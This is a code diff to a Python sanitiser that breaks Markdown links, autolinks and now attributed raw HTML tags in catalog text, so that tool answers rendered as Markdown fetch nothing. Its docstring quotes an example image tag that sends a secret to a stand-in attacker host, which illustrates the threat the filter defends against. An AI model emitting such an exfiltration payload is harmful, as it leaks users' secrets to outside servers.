@@ -13,7 +13,12 @@ live again when the JSON is shown as Markdown) and the site's HTML:
 - `](`, `][` and `]:` become `] (`, `] [` and `] :`: an inline link or image, a reference link and a
   reference definition all need the bracket right before; `[x]` alone is text, since no artifact defines
   a reference (capidx writes none, and none can come from the catalog);
-- an autolink `<scheme:…>` or `<name@host>` becomes `< scheme:…>` (the Markdown filters escape other `<`).
+- an autolink `<scheme:…>` or `<name@host>` becomes `< scheme:…>` (the Markdown filters escape other `<`);
+- an HTML tag with attributes, a comment, a declaration or a processing instruction (`<img src=…>`,
+  `<a href=…>`, `<!--`, `<?`) becomes `< img src=…>`: a Markdown renderer shows raw HTML, and a JSON tool
+  answer shown as Markdown would fetch `<img src="https://attacker.example/p.png?d=secret">` as it would
+  the Markdown image. A tag without attributes (`<name>`, `</b>`, `<owner/repo>`) fetches nothing and
+  links nowhere (and is, in catalog text, a placeholder an agent needs as written), so it is left alone.
 
 Addresses (a source's `url`, `supersededBy`, `startUrl`, the documentation links) are URIs by the schema
 and printed as text; they get the same treatment but for `]:`, which a URI may hold (`http://[::1]:80/`).
@@ -30,8 +35,10 @@ URL_KEYS = frozenset({"url", "supersededBy", "startUrl", "officialDocs", "releas
 
 # A scan stops at the next `<`, space or `>`: linear in the text, however many `<` it holds.
 _AUTOLINK = r"<(?=[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*>|[^\s<>@]+@[^\s<>@]+>)"
-_IN_TEXT = re.compile(rf"\](?=[(\[:])|{_AUTOLINK}")
-_IN_URL = re.compile(rf"\](?=[(\[])|{_AUTOLINK}")
+# CommonMark raw HTML: an attribute follows the tag name after white space; the name is bounded.
+_HTML = r"<(?=[A-Za-z][A-Za-z0-9\-]{0,63}\s|[!?])"
+_IN_TEXT = re.compile(rf"\](?=[(\[:])|{_AUTOLINK}|{_HTML}")
+_IN_URL = re.compile(rf"\](?=[(\[])|{_AUTOLINK}|{_HTML}")
 _CONTEXT = 24  # characters shown on each side of a finding
 
 
@@ -57,7 +64,8 @@ def defused(value: Any, key: object = None) -> Any:
 
 
 def link_syntax(text: str) -> str | None:
-    """The first Markdown link, image, reference or autolink in `text` with some context, or None."""
+    """The first Markdown link, image, reference or autolink, or HTML tag with attributes, comment,
+    declaration or processing instruction in `text`, with some context, or None."""
     if "]" not in text and "<" not in text:
         return None
     found = _IN_TEXT.search(text)
